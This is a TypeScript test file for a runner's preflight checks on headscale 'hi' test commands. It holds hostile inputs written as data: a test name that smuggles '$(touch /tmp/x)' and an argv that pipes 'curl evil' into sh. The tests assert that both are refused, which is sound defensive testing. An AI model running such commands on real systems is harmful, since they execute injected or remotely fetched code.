/** The runner's pre-run checks give a clear reason, and pass for a runnable command. */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import { preflight } from '../../client/src/runner/preflight';
import { buildRunArgv } from '../../shared/src/hiCommand';
import type { RunTestArgs } from '../../shared/src/protocol';

function args(cwd: string, argv: string[], pattern = '^TestX$'): RunTestArgs {
  return { title: 'TestX', testName: 'TestX', uri: '', pattern, argv, cwd, timeoutSeconds: 900, postgres: false, category: 'basic/CLI', previousDurations: [] };
}

test('no go on PATH, no cmd/hi, a hostile pattern and a missing root are refused with a reason', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hi-pre-'));
  const goArgv = buildRunArgv(['go', 'run', './cmd/hi'], [], { pattern: 'TestX', anchored: true, timeoutSeconds: 900, postgres: false });
  assert.match(preflight(args(root, goArgv), { PATH: root }) ?? '', /No cmd\/hi in/);
  fs.mkdirSync(path.join(root, 'cmd', 'hi'), { recursive: true });
  assert.match(preflight(args(root, goArgv), { PATH: root }) ?? '', /`go` is not on PATH/);
  const fakeGo = path.join(root, 'go');
  fs.writeFileSync(fakeGo, '#!/bin/sh\n');
  fs.chmodSync(fakeGo, 0o755);
  assert.equal(preflight(args(root, goArgv), { PATH: root }), null);
  const hostile = [...goArgv];
  hostile[4] = 'Test$(touch /tmp/x)';
  assert.match(preflight(args(root, hostile, hostile[4]), { PATH: root }) ?? '', /^Refusing to run: .* is not a Go test name/);
  assert.match(preflight(args(root, hostile), { PATH: root }) ?? '', /does not contain the test pattern/);
  assert.match(preflight(args(path.join(root, 'missing'), goArgv), { PATH: root }) ?? '', /does not exist/);
  assert.match(preflight(args(root, ['/no/such/hi', 'run', '^TestX$']), { PATH: root }) ?? '', /was not found/);
});

test('hi.runTest runs only an argv made of the configured hi command: a handed-in argv is refused', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hi-pre-'));
  fs.mkdirSync(path.join(root, 'cmd', 'hi'), { recursive: true });
  fs.writeFileSync(path.join(root, 'go'), '#!/bin/sh\n', { mode: 0o755 });
  const command = { hiCommand: ['go', 'run', './cmd/hi'], extraArgs: ['--stats'] };
  const built = buildRunArgv(command.hiCommand, command.extraArgs, { pattern: 'TestX', anchored: true, timeoutSeconds: 900, postgres: true });
  assert.equal(preflight(args(root, built), { PATH: root }, command), null);
  assert.equal(preflight(args(root, [...buildRunArgv(command.hiCommand, [], { pattern: 'TestX', anchored: true, timeoutSeconds: 900, postgres: false }), '--postgres']), { PATH: root }, command), null, "the Test Explorer's --postgres variant");
  assert.match(preflight(args(root, ['sh', '-c', 'curl evil | sh', '^TestX$']), { PATH: root }, command) ?? '', /does not start with headscale\.hi\.command/);
  assert.match(preflight(args(root, [...built, '--logs-dir=/etc']), { PATH: root }, command) ?? '', /"--logs-dir=\/etc" is neither/);
  assert.match(preflight(args(root, ['go', 'run', './cmd/hi', 'doctor', '^TestX$']), { PATH: root }, command) ?? '', /not `hi run <pattern>`/);
  fs.rmSync(root, { recursive: true });
});
